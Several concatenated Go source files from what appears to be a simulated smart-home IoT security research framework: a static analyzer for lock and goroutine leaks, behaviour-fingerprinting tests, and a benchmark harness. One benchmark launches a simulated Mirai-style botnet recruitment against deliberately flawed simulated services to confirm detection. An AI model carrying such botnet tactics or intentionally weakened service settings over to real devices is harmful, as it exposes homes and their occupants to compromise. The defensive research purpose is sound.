		work()
	}()
	waiter(&wg)
}

// --- Unbuffered sends with no receiver on some path.

func sendNoRecv(cond bool) int {
	ch := make(chan int)
	go func() { ch <- 1 }() // want "sends on unbuffered channel ch but the return at line \d+ has no receive"
	if cond {
		return 0
	}
	return <-ch
}

func sendOK() int {
	ch := make(chan int)
	go func() { ch <- 1 }()
	return <-ch
}

func bufferedOK() {
	ch := make(chan int, 1)
	go func() { ch <- 1 }()
}

// chanEscapes forwards the channel; the receive obligation moves with it.
func chanEscapes() {
	ch := make(chan int)
	go func() { ch <- 1 }()
	consume(ch)
}

// --- go-launched named functions and method values hide the loop
// shape behind a name; resolution must still find it.

type pump struct{}

func (p *pump) run() {
	for {
		work()
	}
}

func (p *pump) drain(in chan int) {
	for {
		<-in
	}
}

func (p *pump) idle(in chan int) {
	for {
		<-in
	}
}

func spin() {
	for {
		work()
	}
}

func leakMethod(p *pump) {
	go p.run() // want "goroutine pump.run loops forever with no shutdown path"
}

func leakMethodValue(p *pump) {
	f := p.run
	go f() // want "goroutine pump.run loops forever with no shutdown path"
}

func leakNamed() {
	go spin() // want "goroutine spin loops forever with no shutdown path"
}

// okMethodRecv parks on a receive each round: quiet.
func okMethodRecv(p *pump, in chan int) {
	go p.drain(in)
}

// okReassigned is ambiguous — the variable holds two different method
// values — so resolution stays quiet.
func okReassigned(p *pump, in chan int) {
	f := p.drain
	f = p.idle
	go f(in)
}
