package netsim

// Packet is the fixture's network frame.
type Packet struct {
	Payload []byte
	App     string
}

// Network carries the send sinks of the plaintextescape rule.
type Network struct{ sent int }

// Send transmits one packet.
func (n *Network) Send(pkt *Packet) { n.sent++ }

// Broadcast transmits to every node.
func (n *Network) Broadcast(pkt *Packet) { n.sent++ }

// Gateway is the NAT edge; SendOut is a send sink too.
type Gateway struct{}

// SendOut NATs and transmits a LAN packet.
func (g *Gateway) SendOut(n *Network, pkt *Packet) { n.Send(pkt) }
