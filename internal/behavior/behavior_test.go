package behavior

import (
	"math/rand"
	"testing"
	"testing/quick"

	"xlf/internal/device"
)

func TestLevenshteinKnownValues(t *testing.T) {
	cases := []struct {
		a, b []int
		want int
	}{
		{nil, nil, 0},
		{[]int{1, 2, 3}, nil, 3},
		{nil, []int{9}, 1},
		{[]int{1, 2, 3}, []int{1, 2, 3}, 0},
		{[]int{1, 2, 3}, []int{1, 9, 3}, 1},
		{[]int{1, 2, 3}, []int{2, 3}, 1},
		{[]int{1, 2, 3, 4}, []int{4, 3, 2, 1}, 4}, // k-i-t-t-e-n style full rework
		{[]int{5, 6}, []int{5, 7, 6}, 1},
	}
	for _, tc := range cases {
		if got := Levenshtein(tc.a, tc.b); got != tc.want {
			t.Errorf("Levenshtein(%v,%v) = %d, want %d", tc.a, tc.b, got, tc.want)
		}
	}
}

// Metric properties: symmetry, identity, triangle inequality.
func TestLevenshteinIsAMetric(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	seq := func() []int {
		n := rng.Intn(8)
		s := make([]int, n)
		for i := range s {
			s[i] = rng.Intn(4)
		}
		return s
	}
	for trial := 0; trial < 300; trial++ {
		a, b, c := seq(), seq(), seq()
		dab, dba := Levenshtein(a, b), Levenshtein(b, a)
		if dab != dba {
			t.Fatalf("not symmetric: %v %v", a, b)
		}
		if Levenshtein(a, a) != 0 {
			t.Fatalf("identity failed: %v", a)
		}
		if dab > Levenshtein(a, c)+Levenshtein(c, b) {
			t.Fatalf("triangle violated: %v %v %v", a, b, c)
		}
		if dab > max(len(a), len(b)) {
			t.Fatalf("distance exceeds max length: %v %v", a, b)
		}
	}
}

func TestQuantize(t *testing.T) {
	f := func(n uint16) bool {
		q := Quantize(int(n))
		return q >= 0 && q*32 >= int(n) && (q-1)*32 < int(n) || (n == 0 && q == 0)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func testLibrary(t *testing.T) *Library {
	t.Helper()
	lib, err := NewLibrary([]Fingerprint{
		{Event: "on", Seq: []int{2, 4, 2}},
		{Event: "off", Seq: []int{2, 4, 1}},
		{Event: "motion", Seq: []int{8, 8, 16, 4}},
	}, 1, false)
	if err != nil {
		t.Fatal(err)
	}
	return lib
}

func TestLibraryClassify(t *testing.T) {
	lib := testLibrary(t)
	// Exact match.
	if ev, d, ok := lib.Classify([]int{2, 4, 2}); !ok || ev != "on" || d != 0 {
		t.Errorf("exact classify = %q %d %v", ev, d, ok)
	}
	// One edit away still matches.
	if ev, _, ok := lib.Classify([]int{2, 5, 2}); !ok || ev != "on" {
		t.Errorf("near classify = %q %v", ev, ok)
	}
	// Garbage rejected.
	if _, _, ok := lib.Classify([]int{99, 98, 97, 96, 95}); ok {
		t.Error("garbage sequence classified")
	}
}

func TestLibraryRelativeThreshold(t *testing.T) {
	lib, err := NewLibrary([]Fingerprint{{Event: "x", Seq: []int{1, 1, 1, 1, 1, 1, 1, 1, 1, 1}}}, 30, true)
	if err != nil {
		t.Fatal(err)
	}
	// 2 edits over length 10 = 20% <= 30%: accepted.
	if _, _, ok := lib.Classify([]int{1, 1, 2, 1, 1, 2, 1, 1, 1, 1}); !ok {
		t.Error("within relative threshold rejected")
	}
	// 5 edits = 50% > 30%: rejected.
	if _, _, ok := lib.Classify([]int{2, 2, 2, 2, 2, 1, 1, 1, 1, 1}); ok {
		t.Error("beyond relative threshold accepted")
	}
}

func TestLibraryValidation(t *testing.T) {
	if _, err := NewLibrary(nil, 1, false); err == nil {
		t.Error("empty library accepted")
	}
	if _, err := NewLibrary([]Fingerprint{{Event: "", Seq: []int{1}}}, 1, false); err == nil {
		t.Error("unlabelled fingerprint accepted")
	}
	if _, err := NewLibrary([]Fingerprint{{Event: "e", Seq: nil}}, 1, false); err == nil {
		t.Error("empty sequence accepted")
	}
}

func TestMonitorTracksAndFlags(t *testing.T) {
	bulb := device.NewSmartBulb("bulb-1")
	m, err := NewMonitor("bulb-1", bulb.Behavior)
	if err != nil {
		t.Fatal(err)
	}
	// Legal day: off -> on -> dim -> off.
	for _, ev := range []string{"on", "dim", "off"} {
		if d := m.Observe(ev); d != nil {
			t.Fatalf("legal event %q flagged: %+v", ev, d)
		}
	}
	if m.State() != "off" {
		t.Errorf("tracked state = %q, want off", m.State())
	}
	// Spoofed event: "dim" is illegal in state off.
	d := m.Observe("dim")
	if d == nil {
		t.Fatal("illegal transition not flagged")
	}
	if d.Kind != "illegal-transition" || d.Score != 1.0 {
		t.Errorf("deviation = %+v", d)
	}
	// The tracked state must not advance on rejected events.
	if m.State() != "off" {
		t.Error("state advanced on illegal event")
	}
	obs, dev := m.Stats()
	if obs != 4 || dev != 1 {
		t.Errorf("stats = %d/%d, want 4/1", obs, dev)
	}
}

func TestMonitorUnknownEvent(t *testing.T) {
	bulb := device.NewSmartBulb("b")
	m, _ := NewMonitor("b", bulb.Behavior)
	d := m.ObserveUnknown(7)
	if d == nil || d.Kind != "unknown-event" {
		t.Fatalf("deviation = %+v", d)
	}
	if d.Score <= 0 || d.Score > 1 {
		t.Errorf("score = %v, want (0,1]", d.Score)
	}
	if NewMonitorErr() == nil {
		t.Error("nil automaton accepted")
	}
}

// NewMonitorErr exercises the constructor error path.
func NewMonitorErr() error {
	_, err := NewMonitor("x", nil)
	return err
}

func TestLearnedModel(t *testing.T) {
	benign := [][]string{
		{"idle", "heat", "idle", "cool", "idle"},
		{"idle", "heat", "idle", "heat", "idle"},
	}
	m := Learn(benign)
	if !m.Seen("idle", "heat") || !m.Seen("heat", "idle") {
		t.Error("trained transitions not recorded")
	}
	if m.Seen("heat", "cool") {
		t.Error("phantom transition")
	}
	if s := m.Surprise([]string{"idle", "heat", "idle"}); s != 0 {
		t.Errorf("benign surprise = %v, want 0", s)
	}
	if s := m.Surprise([]string{"heat", "cool", "heat", "cool", "heat"}); s != 1 {
		t.Errorf("novel surprise = %v, want 1", s)
	}
	if s := m.Surprise([]string{"idle", "heat", "cool"}); s != 0.5 {
		t.Errorf("mixed surprise = %v, want 0.5", s)
	}
	if s := m.Surprise([]string{"single"}); s != 0 {
		t.Errorf("degenerate surprise = %v, want 0", s)
	}
	alpha := m.Alphabet()
	if len(alpha) != 3 {
		t.Errorf("alphabet = %v, want 3 symbols", alpha)
	}
}

// TestFingerprintNoiseRobustness simulates the E5 sweep in miniature:
// classification under increasing noise degrades but stays useful at
// HoMonit-like noise levels.
func TestFingerprintNoiseRobustness(t *testing.T) {
	lib, err := NewLibrary([]Fingerprint{
		{Event: "on", Seq: []int{2, 4, 2, 6, 2}},
		{Event: "off", Seq: []int{2, 4, 1, 1, 2}},
		{Event: "motion", Seq: []int{8, 8, 16, 4, 8}},
	}, 40, true)
	if err != nil {
		t.Fatal(err)
	}
	rng := rand.New(rand.NewSource(9))
	truth := []Fingerprint{
		{Event: "on", Seq: []int{2, 4, 2, 6, 2}},
		{Event: "off", Seq: []int{2, 4, 1, 1, 2}},
		{Event: "motion", Seq: []int{8, 8, 16, 4, 8}},
	}
	correct := 0
	const trials = 300
	for i := 0; i < trials; i++ {
		want := truth[rng.Intn(len(truth))]
		seq := append([]int(nil), want.Seq...)
		// One random mutation (noise).
		if rng.Intn(2) == 0 {
			seq[rng.Intn(len(seq))] += rng.Intn(3) - 1
		}
		if got, _, ok := lib.Classify(seq); ok && got == want.Event {
			correct++
		}
	}
	if acc := float64(correct) / trials; acc < 0.9 {
		t.Errorf("accuracy under light noise = %.2f, want >= 0.9", acc)
	}
}
