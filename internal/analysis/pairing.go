package analysis

// The resource-pairing rule family: path-sensitive checks, built on the
// CFG, that every acquired resource is released on every path out of the
// function. Two engines share the analyzer:
//
//   - receiver pairing: an acquire method and a release method on the
//     same receiver expression (mutex Lock/Unlock, RLock/RUnlock). After
//     a `mu.Lock()` every path to the exit must pass `mu.Unlock()` or
//     the function must `defer mu.Unlock()`.
//
//   - value pairing: a call that returns an obligation bound to a
//     variable (obs Tracer.Start -> *Region, time.NewTimer -> *Timer)
//     that must be discharged by a release method on that variable
//     (Region.End, Timer.Stop) on all paths. Passing the variable to
//     another function, returning it, storing it into a structure or
//     capturing it in a closure transfers the obligation and discharges
//     the local check.
//
// Deliberate exceptions are waived with a `xlf:allow-pairing` comment.

import (
	"bytes"
	"go/ast"
	"go/printer"
	"go/token"
	"strconv"
	"strings"
)

// PairingAllowMarker waives a pairing finding for its line (or whole
// function when placed in the doc comment).
const PairingAllowMarker = "xlf:allow-pairing"

// ReceiverPairSpec pairs an acquire method with its release method on
// the same receiver expression.
type ReceiverPairSpec struct {
	Acquire string // method that opens the obligation ("Lock")
	Release string // method that discharges it ("Unlock")
}

// ValuePairSpec describes a call whose bound result carries an
// obligation discharged by a release method on the result.
type ValuePairSpec struct {
	// PkgPath/Func match a package-level acquire call (import path +
	// function name), e.g. "time" + "NewTimer". Empty when the acquire
	// is a method.
	PkgPath string
	Func    string
	// Methods match acquire method calls by name (e.g. Start, StartAt).
	// To keep false positives down when the type oracle cannot resolve
	// the callee, ResultType additionally names the intra-module named
	// type (sans package) the result must have when type info is
	// available ("Region"); with no type info the method name alone
	// matches.
	Methods    []string
	ResultType string
	// Release methods discharge the obligation ("End", "EndAt", "Stop").
	Release []string
	// What the resource is called in diagnostics ("trace region").
	Noun string
}

// pairingAnalyzer runs both engines over every function CFG.
type pairingAnalyzer struct {
	recv   []ReceiverPairSpec
	value  []ValuePairSpec
	oracle *typeOracle
}

// NewPairingAnalyzer builds the pairing analyzer with the given specs.
func NewPairingAnalyzer(recv []ReceiverPairSpec, value []ValuePairSpec) Analyzer {
	return &pairingAnalyzer{recv: recv, value: value, oracle: newTypeOracle()}
}

func (a *pairingAnalyzer) Name() string { return "pairing" }
func (a *pairingAnalyzer) Doc() string {
	return "acquired resources (locks, trace regions, timers) must be released on every path"
}

func (a *pairingAnalyzer) Prepare(pkgs []*Package) { a.oracle.check(pkgs) }

func (a *pairingAnalyzer) Check(pkg *Package) []Finding {
	var out []Finding
	pt := a.oracle.typesOf(pkg)
	for _, f := range pkg.Files {
		allowed := allowedLines(pkg.Fset, f.AST, PairingAllowMarker)
		for _, fn := range Functions(f.AST) {
			g := BuildCFG(fn.Name, fn.Body)
			w := &pairWalker{a: a, pkg: pkg, file: f.AST, pt: pt, g: g, fn: fn}
			for _, fnd := range w.check() {
				if !allowed[fnd.Line] {
					out = append(out, fnd)
				}
			}
		}
	}
	return out
}

// pairWalker checks one function's CFG.
type pairWalker struct {
	a    *pairingAnalyzer
	pkg  *Package
	file *ast.File
	pt   *pkgTypes
	g    *CFG
	fn   Function
}

func (w *pairWalker) check() []Finding {
	var out []Finding
	for _, b := range w.g.Blocks {
		for i, n := range b.Nodes {
			out = append(out, w.checkReceiverAcquires(b, i, n)...)
			out = append(out, w.checkValueAcquires(b, i, n)...)
		}
	}
	return out
}

// exprText renders an expression as compact source text; used to match
// receiver expressions structurally ("s.mu" == "s.mu").
func exprText(e ast.Expr) string {
	var buf bytes.Buffer
	cfg := printer.Config{Mode: printer.RawFormat}
	_ = cfg.Fprint(&buf, token.NewFileSet(), e)
	return strings.Join(strings.Fields(buf.String()), " ")
}

// methodCall matches n as a method call `recv.Name(...)` and returns
// the receiver expression. Package-qualified calls (pkg.Func) are
// excluded by checking the receiver against the file's imports.
func (w *pairWalker) methodCall(n ast.Node) (call *ast.CallExpr, recv ast.Expr, name string, ok bool) {
	c, isCall := n.(*ast.CallExpr)
	if !isCall {
		return nil, nil, "", false
	}
	sel, isSel := c.Fun.(*ast.SelectorExpr)
	if !isSel {
		return nil, nil, "", false
	}
	if id, isID := sel.X.(*ast.Ident); isID && w.isImportName(id.Name) {
		return nil, nil, "", false
	}
	return c, sel.X, sel.Sel.Name, true
}

func (w *pairWalker) isImportName(name string) bool {
	for _, imp := range w.file.Imports {
		p := strings.Trim(imp.Path.Value, `"`)
		local := p[strings.LastIndex(p, "/")+1:]
		if imp.Name != nil {
			local = imp.Name.Name
		}
		if local == name {
			return true
		}
	}
	return false
}

// ---------------------------------------------------------------------
// Engine 1: receiver pairing (mutexes).

// checkReceiverAcquires scans node n for acquire method calls and
// verifies each is released on every path.
func (w *pairWalker) checkReceiverAcquires(b *Block, idx int, n ast.Node) []Finding {
	var out []Finding
	inspectNode(n, func(x ast.Node) bool {
		if _, isLit := x.(*ast.FuncLit); isLit {
			return false // literal bodies have their own CFG
		}
		call, isCall := x.(*ast.CallExpr)
		if !isCall {
			return true
		}
		c, recv, name, ok := w.methodCall(call)
		if !ok || len(c.Args) != 0 {
			return true
		}
		for _, spec := range w.a.recv {
			if name != spec.Acquire {
				continue
			}
			recvText := exprText(recv)
			if w.deferredReceiverRelease(recvText, spec.Release) {
				continue
			}
			if blk := w.leakPath(b, idx, func(node ast.Node) pairUse {
				return w.receiverUse(node, recvText, spec)
			}); blk != nil {
				out = append(out, w.pkg.finding("pairing", call.Pos(),
					"%s.%s() is not paired with %s.%s() on the path reaching %s; release on every path or defer the release",
					recvText, spec.Acquire, recvText, spec.Release, w.pathDesc(blk)))
			}
		}
		return true
	})
	return out
}

// receiverUse classifies what node does to the obligation opened by
// recvText.Acquire().
func (w *pairWalker) receiverUse(n ast.Node, recvText string, spec ReceiverPairSpec) pairUse {
	use := useNone
	inspectNode(n, func(x ast.Node) bool {
		if use != useNone {
			return false
		}
		if _, isLit := x.(*ast.FuncLit); isLit {
			// A closure that releases the lock (handed to a helper,
			// run deferred, ...) discharges the local obligation.
			if w.litReleases(x.(*ast.FuncLit), recvText, spec.Release) {
				use = useRelease
			}
			return false
		}
		call, isCall := x.(*ast.CallExpr)
		if !isCall {
			return true
		}
		if _, recv, name, ok := w.methodCall(call); ok && name == spec.Release && exprText(recv) == recvText {
			use = useRelease
			return false
		}
		return true
	})
	return use
}

func (w *pairWalker) litReleases(lit *ast.FuncLit, recvText string, release string) bool {
	found := false
	ast.Inspect(lit.Body, func(x ast.Node) bool {
		if found {
			return false
		}
		if call, isCall := x.(*ast.CallExpr); isCall {
			if _, recv, name, ok := w.methodCall(call); ok && name == release && exprText(recv) == recvText {
				found = true
				return false
			}
		}
		return true
	})
	return found
}

// deferredReceiverRelease reports whether any deferred call in the
// function releases recvText (directly or inside a deferred closure).
func (w *pairWalker) deferredReceiverRelease(recvText, release string) bool {
	for _, d := range w.g.Defers {
		if _, recv, name, ok := w.methodCall(d); ok && name == release && exprText(recv) == recvText {
			return true
		}
		if lit, isLit := d.Fun.(*ast.FuncLit); isLit && w.litReleases(lit, recvText, release) {
			return true
		}
	}
	return false
}

// ---------------------------------------------------------------------
// Engine 2: value pairing (trace regions, timers).

// checkValueAcquires matches nodes that bind an acquire call's result to
// a variable (or drop it) and verifies the release.
func (w *pairWalker) checkValueAcquires(b *Block, idx int, n ast.Node) []Finding {
	var out []Finding
	report := func(pos token.Pos, spec ValuePairSpec, format string, args ...any) {
		out = append(out, w.pkg.finding("pairing", pos, format, args...))
	}

	bind := func(lhs ast.Expr, rhs ast.Expr) {
		call, isCall := rhs.(*ast.CallExpr)
		if !isCall {
			return
		}
		spec, ok := w.matchValueAcquire(call)
		if !ok {
			return
		}
		id, isID := lhs.(*ast.Ident)
		if !isID {
			return // stored straight into a field/slot: obligation escapes
		}
		if id.Name == "_" {
			report(call.Pos(), spec, "%s from %s is discarded; it must be released with %s",
				spec.Noun, exprText(call.Fun), releaseList(spec))
			return
		}
		if w.deferredValueRelease(id.Name, spec.Release) {
			return
		}
		if blk := w.leakPath(b, idx, func(node ast.Node) pairUse {
			return w.valueUse(node, id.Name, spec)
		}); blk != nil {
			report(call.Pos(), spec,
				"%s %q from %s is not released with %s on the path reaching %s",
				spec.Noun, id.Name, exprText(call.Fun), releaseList(spec), w.pathDesc(blk))
		}
	}

	switch n := n.(type) {
	case *ast.AssignStmt:
		if len(n.Lhs) == len(n.Rhs) {
			for i := range n.Lhs {
				bind(n.Lhs[i], n.Rhs[i])
			}
		}
	case *ast.DeclStmt:
		if gd, isGen := n.Decl.(*ast.GenDecl); isGen {
			for _, s := range gd.Specs {
				if vs, isVal := s.(*ast.ValueSpec); isVal && len(vs.Names) == len(vs.Values) {
					for i := range vs.Names {
						bind(vs.Names[i], vs.Values[i])
					}
				}
			}
		}
	case *ast.ExprStmt:
		if call, isCall := n.X.(*ast.CallExpr); isCall {
			if spec, ok := w.matchValueAcquire(call); ok {
				report(call.Pos(), spec, "%s from %s is discarded; it must be released with %s",
					spec.Noun, exprText(call.Fun), releaseList(spec))
			}
		}
	}
	return out
}

func releaseList(spec ValuePairSpec) string { return strings.Join(spec.Release, "/") }

// matchValueAcquire reports whether call opens a value obligation.
func (w *pairWalker) matchValueAcquire(call *ast.CallExpr) (ValuePairSpec, bool) {
	sel, isSel := call.Fun.(*ast.SelectorExpr)
	if !isSel {
		return ValuePairSpec{}, false
	}
	for _, spec := range w.a.value {
		// Package-level acquire: pkg.Func where pkg imports spec.PkgPath.
		if spec.PkgPath != "" && spec.Func != "" && sel.Sel.Name == spec.Func {
			if id, isID := sel.X.(*ast.Ident); isID {
				if local, imports := importName(w.file, spec.PkgPath); imports && id.Name == local {
					return spec, true
				}
			}
		}
		// Method acquire: name match plus result-type confirmation when
		// the oracle resolved the call.
		for _, m := range spec.Methods {
			if sel.Sel.Name != m {
				continue
			}
			if id, isID := sel.X.(*ast.Ident); isID && w.isImportName(id.Name) {
				continue
			}
			if w.pt != nil {
				if tv, resolved := w.pt.info.Types[ast.Expr(call)]; resolved && tv.Type != nil {
					if name := namedOf(tv.Type); name != "" {
						if name == spec.ResultType {
							return spec, true
						}
						continue // resolved to something else: not ours
					}
				}
			}
			return spec, true
		}
	}
	return ValuePairSpec{}, false
}

// valueUse classifies what node does with the bound variable.
func (w *pairWalker) valueUse(n ast.Node, varName string, spec ValuePairSpec) pairUse {
	use := useNone
	merge := func(u pairUse) {
		if u == useRelease || use == useNone {
			use = u
		}
	}
	isVar := func(e ast.Expr) bool {
		id, isID := e.(*ast.Ident)
		return isID && id.Name == varName
	}
	// An overwrite of the variable orphans the old obligation, but a
	// rebind from the same acquire family (r = tracer.Start(...) in a
	// loop) is treated as an escape of the old value to keep the check
	// conservative.
	if asg, isAsg := n.(*ast.AssignStmt); isAsg {
		for _, l := range asg.Lhs {
			if isVar(l) {
				merge(useEscape)
			}
		}
	}
	inspectNode(n, func(x ast.Node) bool {
		if use == useRelease {
			return false
		}
		switch x := x.(type) {
		case *ast.FuncLit:
			// Captured by a closure: the closure may release it later.
			captured := false
			ast.Inspect(x.Body, func(y ast.Node) bool {
				if id, isID := y.(*ast.Ident); isID && id.Name == varName {
					captured = true
					return false
				}
				return true
			})
			if captured {
				merge(useEscape)
			}
			return false
		case *ast.CallExpr:
			if _, recv, name, ok := w.methodCall(x); ok && isVar(recv) {
				for _, r := range spec.Release {
					if name == r {
						merge(useRelease)
						return false
					}
				}
				return true
			}
			// Passed as an argument: obligation transferred.
			for _, arg := range x.Args {
				if isVar(arg) {
					merge(useEscape)
				}
			}
		case *ast.ReturnStmt:
			for _, r := range x.Results {
				if isVar(r) {
					merge(useEscape)
				}
			}
		case *ast.SendStmt:
			if isVar(x.Value) {
				merge(useEscape)
			}
		case *ast.AssignStmt:
			// v on the RHS of an assignment aliases it away.
			for _, r := range x.Rhs {
				if isVar(r) {
					merge(useEscape)
				}
			}
		case *ast.KeyValueExpr:
			if isVar(x.Value) {
				merge(useEscape)
			}
		case *ast.UnaryExpr:
			if x.Op == token.AND && isVar(x.X) {
				merge(useEscape)
			}
		}
		return true
	})
	return use
}

// deferredValueRelease reports whether a deferred call releases varName.
func (w *pairWalker) deferredValueRelease(varName string, release []string) bool {
	releases := func(call *ast.CallExpr) bool {
		_, recv, name, ok := w.methodCall(call)
		if !ok {
			return false
		}
		id, isID := recv.(*ast.Ident)
		if !isID || id.Name != varName {
			return false
		}
		for _, r := range release {
			if name == r {
				return true
			}
		}
		return false
	}
	for _, d := range w.g.Defers {
		if releases(d) {
			return true
		}
		if lit, isLit := d.Fun.(*ast.FuncLit); isLit {
			found := false
			ast.Inspect(lit.Body, func(x ast.Node) bool {
				if found {
					return false
				}
				if call, isCall := x.(*ast.CallExpr); isCall && releases(call) {
					found = true
					return false
				}
				return true
			})
			if found {
				return true
			}
		}
	}
	return false
}

// ---------------------------------------------------------------------
// Shared path search.

// pairUse is what one CFG node does with an open obligation.
type pairUse int

const (
	useNone    pairUse = iota
	useRelease         // obligation discharged
	useEscape          // obligation transferred elsewhere; stop tracking
)

// leakPath searches every CFG path from just after Nodes[idx] of block b
// for one that reaches the exit without classify returning a release or
// escape. It returns a block on the leaking path (the exit's predecessor
// where the path leaves the function) or nil when every path discharges
// the obligation.
func (w *pairWalker) leakPath(b *Block, idx int, classify func(ast.Node) pairUse) *Block {
	return cfgLeakPath(w.g, b, idx, classify)
}

// cfgLeakPath is the shared obligation path search (pairing, goroleak):
// it walks every path from just after Nodes[idx] of block b and returns a
// block on the first path that reaches the exit without classify seeing a
// release or escape, or nil when every path discharges.
func cfgLeakPath(g *CFG, b *Block, idx int, classify func(ast.Node) pairUse) *Block {
	// Scan the remainder of the defining block first.
	for i := idx + 1; i < len(b.Nodes); i++ {
		if classify(b.Nodes[i]) != useNone {
			return nil
		}
	}
	seen := map[*Block]bool{}
	var walk func(blk *Block, from *Block) *Block
	walk = func(blk *Block, from *Block) *Block {
		if blk == g.Exit {
			return from
		}
		if seen[blk] {
			return nil
		}
		seen[blk] = true
		for _, n := range blk.Nodes {
			if classify(n) != useNone {
				return nil
			}
		}
		for _, s := range blk.Succs {
			if leak := walk(s, blk); leak != nil {
				return leak
			}
		}
		return nil
	}
	if b == g.Exit {
		return nil
	}
	for _, s := range b.Succs {
		if leak := walk(s, b); leak != nil {
			return leak
		}
	}
	return nil
}

// pathDesc names where a leaking path leaves the function, for the
// diagnostic.
func (w *pairWalker) pathDesc(b *Block) string {
	return cfgPathDesc(w.pkg, b)
}

// cfgPathDesc names where a leaking path leaves the function.
func cfgPathDesc(pkg *Package, b *Block) string {
	line := "?"
	for i := len(b.Nodes) - 1; i >= 0; i-- {
		if pos := b.Nodes[i].Pos(); pos.IsValid() {
			line = strconv.Itoa(pkg.Fset.Position(pos).Line)
			break
		}
	}
	if b.Panics {
		return "a panic exit (line " + line + ")"
	}
	return "the return at line " + line
}
