package xlf_test

// Benchmark harness: one benchmark per paper table and figure plus one per
// quantitative experiment (E1-E8), as indexed in DESIGN.md. Each bench
// regenerates its artifact end to end, so `go test -bench=.` reproduces
// the entire evaluation; per-cipher micro-benchmarks cover the Table III
// throughput column at testing.B fidelity.

import (
	"testing"
	"time"

	"xlf"
	"xlf/internal/attack"
	"xlf/internal/core"
	"xlf/internal/exp"
	"xlf/internal/lwc"
	"xlf/internal/obs"
	"xlf/internal/service"
)

// sinkResult prevents dead-code elimination of experiment outputs.
var sinkResult *exp.Result

func benchExperiment(b *testing.B, fn func(seed int64) *exp.Result) {
	b.Helper()
	for i := 0; i < b.N; i++ {
		sinkResult = fn(int64(i + 1))
	}
}

// benchRegistry resolves one registry descriptor and regenerates its
// artifact per iteration, seeding each run differently so the costs are
// not cache artifacts.
func benchRegistry(b *testing.B, id string) {
	b.Helper()
	e, ok := exp.Lookup(id)
	if !ok {
		b.Fatalf("registry lost %s", id)
	}
	benchExperiment(b, func(seed int64) *exp.Result { return e.Run(exp.NewEnv(seed)) })
}

func BenchmarkTable1DeviceProfiles(b *testing.B) { benchRegistry(b, "T1") }

func BenchmarkTable2AttackSurface(b *testing.B) { benchRegistry(b, "T2") }

func BenchmarkTable3Ciphers(b *testing.B) { benchRegistry(b, "T3") }

func BenchmarkFigure2ProtocolRegistry(b *testing.B) {
	benchExperiment(b, func(int64) *exp.Result { return exp.Figure2() })
}

func BenchmarkFigure3AttackSurfaceMap(b *testing.B) {
	benchExperiment(b, func(int64) *exp.Result { return exp.Figure3() })
}

func BenchmarkFiguresArchitecture(b *testing.B) {
	benchExperiment(b, func(int64) *exp.Result {
		sinkResult = exp.Figure1()
		return exp.Figure4()
	})
}

func BenchmarkE1CrossLayerDetection(b *testing.B) { benchRegistry(b, "E1") }

func BenchmarkE2TrafficShaping(b *testing.B) { benchRegistry(b, "E2") }

func BenchmarkE3AuthDelegation(b *testing.B) { benchRegistry(b, "E3") }

func BenchmarkE4EncryptedDPI(b *testing.B) { benchRegistry(b, "E4") }

func BenchmarkE5BehaviorDFA(b *testing.B) { benchRegistry(b, "E5") }

func BenchmarkE6CoreLearning(b *testing.B) { benchRegistry(b, "E6") }

func BenchmarkE7DNSPrivacy(b *testing.B) { benchRegistry(b, "E7") }

func BenchmarkE8Botnet(b *testing.B) { benchRegistry(b, "E8") }

func BenchmarkE9Stability(b *testing.B) { benchRegistry(b, "E9") }

// BenchmarkTable3Cipher/<name> measures each Table III algorithm's block
// throughput individually (the table's software metric at testing.B
// fidelity).
func BenchmarkTable3Cipher(b *testing.B) {
	reg := lwc.NewRegistry()
	for _, info := range reg.All() {
		info := info
		b.Run(info.Name, func(b *testing.B) {
			key := make([]byte, info.DefaultKeyBits()/8)
			for i := range key {
				key[i] = byte(i * 3)
			}
			blk, err := info.New(key)
			if err != nil {
				b.Fatal(err)
			}
			buf := make([]byte, blk.BlockSize())
			b.SetBytes(int64(blk.BlockSize()))
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				blk.Encrypt(buf, buf)
			}
		})
	}
}

// BenchmarkScenarioSimulation measures raw simulation throughput: one full
// protected home under the composite campaign.
func BenchmarkScenarioSimulation(b *testing.B) {
	for i := 0; i < b.N; i++ {
		sys, err := xlf.New(xlf.Options{
			Seed:  int64(i + 1),
			Flaws: service.Flaws{CoarseGrants: true, UnsignedEvents: true, OpenRedirectOTA: true},
		})
		if err != nil {
			b.Fatal(err)
		}
		env := sys.Home.AttackEnv()
		(&attack.MiraiRecruit{CNC: "wan:cnc", BeaconEvery: 15 * time.Second}).Execute(env)
		if err := sys.Home.Run(5 * time.Minute); err != nil {
			b.Fatal(err)
		}
		if len(sys.Core.Alerts()) == 0 {
			b.Fatal("campaign not detected")
		}
	}
}

// benchIngest drives the correlation engine's signal path with a rotating
// stream of sub-threshold signals across devices and layers. tracer == nil
// is the production default (nil-check fast path); a live tracer adds one
// ring-buffer append per accepted signal.
func benchIngest(b *testing.B, tracer *obs.Tracer) {
	b.Helper()
	sys, err := xlf.New(xlf.Options{Seed: 1, Tracer: tracer})
	if err != nil {
		b.Fatal(err)
	}
	layers := []core.LayerName{core.Device, core.Network, core.Service}
	devices := []string{"bulb-1", "cam-1", "thermo-1", "fridge-1"}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		sys.Core.Ingest(core.Signal{
			Time:     time.Duration(i) * time.Millisecond,
			Layer:    layers[i%len(layers)],
			Source:   "bench",
			DeviceID: devices[i%len(devices)],
			Kind:     "bench-signal",
			Score:    0.3,
		})
	}
}

// BenchmarkCoreIngest is the disabled-tracer baseline: observability off,
// the hot path pays only a nil check. Compare against
// BenchmarkCoreIngestTraced to bound the tracing overhead (DESIGN.md §8).
func BenchmarkCoreIngest(b *testing.B) { benchIngest(b, nil) }

// BenchmarkCoreIngestTraced is the same signal stream with a live span
// recorder attached, measuring the enabled-tracer cost per signal.
func BenchmarkCoreIngestTraced(b *testing.B) {
	benchIngest(b, obs.NewTracer(obs.DefaultCapacity, nil))
}
