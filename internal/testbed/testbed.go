// Package testbed assembles the full simulated smart home: the Table I
// device fleet on a netsim network behind a NAT gateway, the service-layer
// cloud with its automations, DNS, the OTA pipeline, and attacker
// footholds. Examples, experiments, the attack suite and the XLF facade
// all build on this one wiring.
package testbed

import (
	"fmt"
	"time"

	"xlf/internal/attack"
	"xlf/internal/channel"
	"xlf/internal/device"
	"xlf/internal/lwc"
	"xlf/internal/netsim"
	"xlf/internal/obs"
	"xlf/internal/service"
	"xlf/internal/sim"
)

// Config selects testbed variants.
type Config struct {
